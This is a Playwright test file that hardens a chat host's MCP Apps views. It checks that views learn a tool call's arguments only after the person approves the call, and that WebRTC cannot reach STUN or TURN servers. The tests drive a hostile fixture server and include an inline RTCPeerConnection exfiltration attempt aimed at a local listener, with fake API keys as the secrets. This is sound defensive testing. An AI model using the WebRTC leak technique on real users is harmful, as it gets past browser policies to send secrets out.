// MCP Apps views that try to get what they learn out (hardening issue): a view is told nothing of its
// call — not the arguments as the model writes them, not while the approval is open, not after Deny —
// until the person allowed it; and WebRTC, which no Content-Security-Policy stops, reaches no STUN or TURN
// server, from the view or from its sandbox. A real listener on 127.0.0.1 records what arrives.
import type { Page } from '@playwright/test';
import { chatHostFor, openApp, sendMessage } from './fixtures/chatHost.ts';
import { expect, test } from './fixtures/hostProcess.ts';
import type { LeakListener } from './fixtures/leakListener.ts';
import { startLeakListener } from './fixtures/leakListener.ts';
import { holdStream } from './fixtures/llm/streamHold.ts';
import { fixtureCommand } from './servers/launch.ts';
import { approve, viewOf } from './fixtures/appViews.ts';

let listener: LeakListener;
test.beforeAll(async () => {
  listener = await startLeakListener();
});
test.afterAll(() => listener.close());

const attacksServer = () => ({
  // Trusted: its views show without a click, so each is up before its call is decided. Its calls still ask.
  attacks: { ...fixtureCommand('viewAttackServer', ['--listener', listener.httpOrigin, '--udp', String(listener.udpPort), '--tcp', String(listener.tcpPort)]), trusted: true },
});

/**
 * Waits until the view has heard a theme change the page sends now. The page's messages reach the view
 * in order, so whatever the page sent it before has arrived by then too.
 */
async function everythingSentHasArrived(page: Page, scheme: 'dark' | 'light'): Promise<void> {
  await page.emulateMedia({ colorScheme: scheme });
  await expect.poll(() => listener.httpWith(`"theme":"${scheme}"`).length, { message: `the view heard the ${scheme} theme` }).toBeGreaterThan(0);
}

test.describe('the call’s input', () => {
  const hold = holdStream('{"key":"sk-live');
  const env = chatHostFor(
    [
      { toolCalls: [{ name: 'attacks__leak_input', input: { key: 'sk-live-4f9a' } }], hold },
      { text: 'I did not check it.' },
      { toolCalls: [{ name: 'attacks__leak_input', input: { key: 'sk-live-second' } }] },
      { text: 'Checked.' },
    ],
    attacksServer,
  );

  test('a view learns its call’s arguments only once the person allowed the call: nothing while the model writes them, nothing while the approval is open, nothing after Deny', async ({ page }) => {
    test.setTimeout(120_000);
    await openApp(page, env().host, ['attacks']);
    await sendMessage(page, 'check my key');
    const card = page.getByRole('article', { name: 'Tool call attacks/leak_input' }).first();

    await test.step('while the model writes the call, the view is up and hears none of it', async () => {
      await expect(card.getByRole('status')).toHaveText('The model is writing its arguments');
      await expect.poll(() => listener.httpWith('ready').length, { message: 'the view is up and can reach its listener' }).toBeGreaterThan(0);
      await everythingSentHasArrived(page, 'dark');
      expect(listener.httpWith('sk-live'), 'no argument reached the listener').toEqual([]);
      expect(listener.httpWith('tool-input'), 'not even partial input was sent to the view').toEqual([]);
    });

    await test.step('while the approval is open, the view still hears nothing of the call', async () => {
      hold.release();
      const dialog = page.getByRole('dialog', { name: 'Run leak_input?' });
      await expect(dialog).toContainText('sk-live-4f9a');
      await everythingSentHasArrived(page, 'light');
      expect(listener.httpWith('sk-live'), 'nothing reached the listener before the person answered').toEqual([]);
      await page.screenshot({ path: 'e2e/artifacts/app-view-leak-approval-open.png' });
    });

    await test.step('after Deny, the view hears only that the call was not allowed', async () => {
      await approve(page, 'leak_input', 'Deny');
      await expect.poll(() => listener.httpWith('tool-cancelled').length, { message: 'the view was told the call was not made' }).toBeGreaterThan(0);
      expect(listener.httpWith('tool-cancelled')[0]).toContain('The call was not allowed.');
      expect(listener.httpWith('sk-live'), 'the denied call’s arguments never reached the view').toEqual([]);
      await expect(page.getByRole('listitem', { name: 'Assistant' }).last()).toContainText('I did not check it.');
    });

    await test.step('a call the person allows is told to its view, which may send it to the origin it declared', async () => {
      await sendMessage(page, 'check it then');
      await approve(page, 'leak_input', 'Allow once');
      await expect.poll(() => listener.httpWith('sk-live-second').length, { message: 'the allowed call’s input reached the view' }).toBeGreaterThan(0);
      expect(listener.httpWith('tool-input')[0]).toContain('{"arguments":{"key":"sk-live-second"}}');
      expect(listener.httpWith('sk-live-4f9a'), 'the denied call’s arguments still never did').toEqual([]);
    });
  });
});

/** The first Chromium that enforces the Connection-Allowlist header (before it, an origin trial). */
const CONNECTION_ALLOWLIST_SINCE = 152;

test.describe('WebRTC', () => {
  const env = chatHostFor([{ toolCalls: [{ name: 'attacks__open_peer', input: { key: 'sk-peer-7c1d' } }] }, { text: 'Connected.' }], attacksServer);

  test('WebRTC from a view reaches no STUN or TURN server: not from its own page, not from a frame it makes, not from its sandbox', async ({ page, context }) => {
    test.setTimeout(120_000);
    await openApp(page, env().host, ['attacks']);
    await sendMessage(page, 'connect me');
    await approve(page, 'open_peer', 'Allow once');
    const view = viewOf(page, 'open_peer', 'attacks');
    const attempt = (what: string) => view.locator(`li[data-attempt="${what}"]`);
    const udpOrTcp = () => listener.arrived.filter((arrival) => arrival.via !== 'http');

    await test.step('the view, which has its call’s input, cannot open a peer connection to send it', async () => {
      await expect(attempt('webrtc')).toHaveText(/^webrtc: (unavailable|gathered)/);
      await expect(attempt('webkit webrtc')).toHaveText(/^webkit webrtc: (unavailable|gathered)/);
      await expect(attempt('webrtc in a frame')).toHaveText(/^webrtc in a frame: (unavailable|gathered)/);
      expect(udpOrTcp(), 'no STUN or TURN message arrived, and no username').toEqual([]);
      await page.screenshot({ path: 'e2e/artifacts/app-view-webrtc.png' });
    });

    await test.step('the sandbox’s own policy blocks WebRTC, under the guard the view gets', async () => {
      // The policy is the Connection-Allowlist header, which Chromium knows from 152 on; in an older one
      // the view's guard, seen to hold above, is all there is (as viewSandboxRelay.ts says).
      const version = context.browser()?.version() ?? '';
      if (Number(version.split('.')[0]) < CONNECTION_ALLOWLIST_SINCE) {
        const reason = `Chromium ${version} does not know the Connection-Allowlist header (Chromium ${CONNECTION_ALLOWLIST_SINCE} and later do): only the view's guard stops WebRTC in it`;
        test.info().annotations.push({ type: 'step skipped', description: reason });
        console.log(`skipped: ${reason}`);
        return;
      }
      // The relay page as the view's frame loads it, with its headers, and a peer connection made in it
      // directly (the guard is not there: it goes into the view's document, not the relay's).
      const relay = await page.locator('iframe[title="View of attacks/open_peer"]').getAttribute('src');
      const sandbox = await context.newPage();
      await sandbox.goto(relay ?? 'about:blank');
      const gathered = await sandbox.evaluate(
        `new Promise((resolve) => {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:${listener.udpPort}', 'turn:127.0.0.1:${listener.tcpPort}?transport=tcp'], username: 'leak-from-sandbox', credential: 'x' }] });
          peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') resolve('gathered'); };
          peer.createDataChannel('out');
          peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        })`,
      );
      expect(gathered).toBe('gathered');
      expect(udpOrTcp(), 'nothing arrived from the sandbox either').toEqual([]);
      await sandbox.close();
    });
  });
});
